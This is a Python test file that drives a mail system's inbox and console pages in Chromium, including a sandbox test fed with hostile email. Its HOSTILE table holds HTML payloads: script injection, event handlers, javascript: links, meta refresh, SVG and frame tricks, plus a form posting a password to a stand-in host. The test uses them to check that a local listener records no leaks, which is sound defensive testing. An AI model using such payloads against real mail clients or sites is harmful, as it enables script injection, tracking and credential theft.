# Copyright (c) 2026 The Frank authors. SPDX-License-Identifier: ISC
"""The pages of inbox and console, driven in Chromium (page/*.mjs): live, by keyboard alone, under axe-core, and with mail that attacks.

Screenshots at 1280 and 390 pixels, light and dark, stay in the folder `screenshots` of the build.
"""
from harness import *
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from test_sandbox import Sandbox
import base64, smtplib, ssl

PIXEL = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')
SENDER = 'billing@example.test'


def run(ground, options):
    logic()
    if os.environ.get('GROUND_NO_BROWSER') or options.no_browser:
        check.skip('the pages in Chromium', '--no-browser')
        return
    with Sandbox('--account', SENDER) as s:
        inbox(s)
    console(ground)


def node_env(**more):
    npm = subprocess.run(['bash', '-c', '. "$1/lib/node.sh"; echo "$NPM/node_modules"; command -v node', '-', GROUND_HOME], capture_output=True, text=True).stdout.split('\n')
    return npm[1], dict(os.environ, GROUND_NODE_MODULES=npm[0], **more)


def logic():
    """The modules that need no document."""
    node, env = node_env()
    r = subprocess.run([node, '--test', os.path.join(HERE, 'page', 'logic.test.mjs')], env=env, capture_output=True, text=True, timeout=120)
    said = re.search(r'# pass (\d+)', r.stdout)
    check('formats, searches and plots', r.returncode == 0 and said and int(said[1]) > 10, r.stdout[-3000:] + r.stderr)


def drive(script, options, **can):
    """Runs page/SCRIPT.mjs; its results become ours, and what it asks for is done by `can`."""
    shots = os.path.join(build_dir(), 'screenshots')
    os.makedirs(shots, exist_ok=True)
    node, env = node_env(PAGE_SHOTS=shots)
    p = subprocess.Popen([node, os.path.join(HERE, 'page', script + '.mjs')], env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    timer = threading.Timer(240, p.kill)
    timer.start()
    try:
        p.stdin.write(json.dumps(options) + '\n')
        p.stdin.flush()
        for line in p.stdout:
            said = json.loads(line)
            if 'check' in said:
                check(said['check'], said['good'], said['info'])
            else:
                name = said.pop('ask')
                p.stdin.write(json.dumps(can[name](**said) or {}) + '\n')
                p.stdin.flush()
    finally:
        timer.cancel()
        p.stdin.close()
    check(f'{script}.mjs ends by itself', p.wait(20) == 0, p.returncode)


class Listener(BaseHTTPRequestHandler):
    """Whoever asks it was let out of the frame."""
    paths = []

    def do_GET(self):
        self.paths.append(self.path)
        self.send_response(200)
        self.send_header('Content-Type', 'image/png')
        self.end_headers()
        self.wfile.write(PIXEL)

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *a):
        pass


def message(to, subject, text='Some text.', html=None, attachment=None, image=None):
    m = EmailMessage()
    m['From'], m['To'], m['Subject'] = f'Billing <{SENDER}>', to, subject
    m.set_content(text)
    if html:
        m.add_alternative(html, subtype='html')
        if image:
            m.get_payload()[1].add_related(PIXEL, 'image', 'png', cid=f'<{image}>')
    if attachment:
        m.add_attachment(b'%PDF-1.4', maintype='application', subtype='pdf', filename=attachment)
    return m


# Each tries to run something, to leave, or to ask somebody. HOST is the listener.
HOSTILE = {
    'script': '<p>visible</p><script>document.title="owned";parent.owned=1;fetch("http://HOST/x-fetch")</script><script src="http://HOST/x-src"></script>',
    'handlers': '<body onload="document.title=\'owned\';new Image().src=\'http://HOST/x-onload\'"><p>visible</p><img src="nope" onerror="top.owned=1;location=\'http://HOST/x-onerror\'"><a href="javascript:top.owned=1" id="a">a</a><details open ontoggle="parent.owned=1">d</details></body>',
    'images': '<p>visible</p><img src="http://HOST/img-1" srcset="http://HOST/img-2 2x"><table background="http://HOST/img-3"><tr><td>t</td></tr></table><picture><source srcset="http://HOST/img-4"><img></picture>'
              '<video poster="http://HOST/x-poster" src="http://HOST/x-video"></video><audio src="http://HOST/x-audio"></audio><input type="image" src="http://HOST/img-5">',
    'styles': '<link rel="stylesheet" href="http://HOST/x-link"><link rel="prefetch" href="http://HOST/x-prefetch"><link rel="preconnect" href="http://HOST/"><style>@import "http://HOST/x-import";@import url(//HOST/x-import2);'
              'body{background:url(http://HOST/img-css)}@font-face{font-family:f;src:url(http://HOST/x-font)}p{font-family:f;cursor:url(http://HOST/img-cursor),auto}li{list-style-image:url("http://HOST/img-list")}</style><p style="border-image:url(http://HOST/img-border) 1">visible</p><li>x</li>',
    'forms': '<p>visible</p><form action="http://HOST/x-form" method="post" target="_top"><input name="password" value="secret"><button>Go on</button></form><form id="f" action="http://HOST/x-form2"></form><button form="f" formaction="http://HOST/x-form3">b</button>',
    'refresh': '<meta http-equiv="refresh" content="0;url=http://HOST/x-refresh"><META HTTP-EQUIV=refresh CONTENT="0; URL=\'http://HOST/x-refresh2\'"><p>visible</p>',
    'svg': '<p>visible</p><svg xmlns="http://www.w3.org/2000/svg" onload="parent.owned=1"><script>parent.owned=1;document.title="owned"</script><image href="http://HOST/img-svg"/><use href="http://HOST/x-use#a"/><a href="javascript:parent.owned=1"><text y="20">t</text></a>'
           '<foreignObject><iframe src="http://HOST/x-foreign"></iframe></foreignObject><animate attributeName="href" values="javascript:parent.owned=1"/></svg><img src="data:image/svg+xml,%3Csvg xmlns=\'http://www.w3.org/2000/svg\'%3E%3Cimage href=\'http://HOST/x-datasvg\'/%3E%3C/svg%3E">',
    'base': '<base href="http://HOST/x-base/" target="_top"><p>visible</p><img src="relative.png"><a href="x" id="a">away</a>',
    'frames': '<p>visible</p><iframe src="http://HOST/x-iframe"></iframe><iframe srcdoc="<script>top.owned=1</script><img src=http://HOST/img-srcdoc>"></iframe><object data="http://HOST/x-object"></object><embed src="http://HOST/x-embed"><frameset><frame src="http://HOST/x-frame"></frameset>'
              '<iframe src="javascript:parent.parent.owned=1"></iframe><iframe src="data:text/html,<script>top.owned=1</script>"></iframe>',
}


def inbox(s):
    r = s.ready
    server = ThreadingHTTPServer(('127.0.0.1', 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    host = f'127.0.0.1:{server.server_port}'
    token = s.tool('token', 'code', SENDER)[1]['access_token']
    secrets.add(token)

    def submit(m, how='PLAIN'):
        if how == 'XOAUTH2':
            auth = base64.b64encode(f'user={SENDER}\x01auth=Bearer {token}\x01\x01'.encode()).decode()
        with smtplib.SMTP('localhost', r['submission_port']) as c:
            c.starttls(context=ssl.create_default_context(cafile=r['ca']))
            c.ehlo()
            if how == 'XOAUTH2':
                code, text = c.docmd('AUTH', 'XOAUTH2 ' + auth)
                check('the sandbox takes the token', code == 235, text)
            else:
                c.login(SENDER, s.password(SENDER))
            c.send_message(m)

    def send(how='PLAIN', **what):
        submit(message(**what), how)

    def remove(subject):
        found = json.loads(http(r['api'] + '/api/v1/search?' + urllib.parse.urlencode({'query': f'subject:"{subject}"'}))[1])
        request = urllib.request.Request(r['api'] + '/api/v1/messages', json.dumps({'IDs': [m['ID'] for m in found['messages']]}).encode(), {'Content-Type': 'application/json'}, method='DELETE')
        urllib.request.urlopen(request).close()

    def hostile():
        for name, html in reversed(HOSTILE.items()):
            submit(message('victim@example.org', f'Hostile {name}', html=html.replace('HOST', host)))

    try:
        drive('inbox', dict(address=r['api'], port=r['submission_port'], token_start=token[:20], hostile=len(HOSTILE)), send=send, remove=remove, hostile=hostile,
              asked=lambda: dict(count=len(Listener.paths), paths=Listener.paths))
    finally:
        server.shutdown()


READER = 64405


def console(ground):
    f = Frank('page', {'gone': oauth_account(ground), 'refused': password_account(ground, mailbox_='alerts@example.test')},
              {'root': dict(users=['0'], accounts=['refused'], senders=['alerts@example.test'], **{'from': 'keep'}),
               'staging': dict(socket=True, accounts=['gone'], senders=[SENDER], mode='capture', **{'socket-mode': '0666'}),
               'own': dict(users=[str(READER)], accounts=['gone'], senders=[SENDER])})
    consoles = []
    # as `frank test deliver` keeps its runs
    os.makedirs(f.path('own/frank'))
    f.env['XDG_STATE_HOME'] = f.path('own')
    with open(f.path('own/frank/deliveries.jsonl'), 'w') as runs:
        for n, verdict in enumerate(('good', 'good', 'junk', 'weak', 'missing', 'good')):
            runs.write(json.dumps(dict(time=int(time.time()) - 7200 + 1200 * n, account='gone', seed='seed', verdict=verdict, folder=dict(junk='Junk', missing=None).get(verdict, 'INBOX'), seconds=4 + 3 * n)) + '\n')

    def opened(user=None):
        words = ['setpriv', '--reuid', str(user), '--regid', str(user), '--clear-groups', '--'] if user else []
        consoles.append(subprocess.Popen([*words, program('frank'), 'console', '--no-browser'], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, env=f.env))
        link = consoles[-1].stdout.readline().strip()
        secrets.add(link.rpartition('/')[2])
        return link

    def send(account, subject):
        return dict(status=f.send('alerts@example.test', 'someone@example.org', subject))

    def shown(id):
        return dict(state=f.json('queue', 'show', id).get('state'))

    try:
        if os.getuid() != 0:
            check.needs_root('the console page')
            return
        if not check('frankd starts', f.start(), f.log()[-800:]):
            return
        f.frank('secret', 'set', 'refused', input='wrong\n')
        send('refused', 'Waits for a person')
        check('an account is refused', wait_for(lambda: f.account('refused').get('cause') == 'password-refused', 20), f.account('refused'))
        env = dict(f.env, FRANK_SUBMIT_SOCKET=f.path('run/services/staging/submit.sock'))
        r = subprocess.run([program('sendmail'), '-f', SENDER, 'mira@example.test'], input=b'Subject: Welcome aboard\n\nHello Welcome aboard\n', env=env, capture_output=True)
        check('a message is captured', r.returncode == 0 and wait_for(lambda: f.json('queue', '--captured')['messages'], 10), r)
        waiting = next(m['id'] for m in f.queue() if m['state'] != 'captured')
        drive('console', dict(link=opened(), reader=opened(READER), waiting=waiting, login=SENDER, password=ground.password, mailbox=SENDER), send=send, state=shown,
              arrived=lambda subject: dict(arrived=bool(ground.arrived('mira@example.test', subject))))
    finally:
        for c in consoles:
            c.terminate()
            c.wait(20)
            c.stdout.close()
        f.stop()
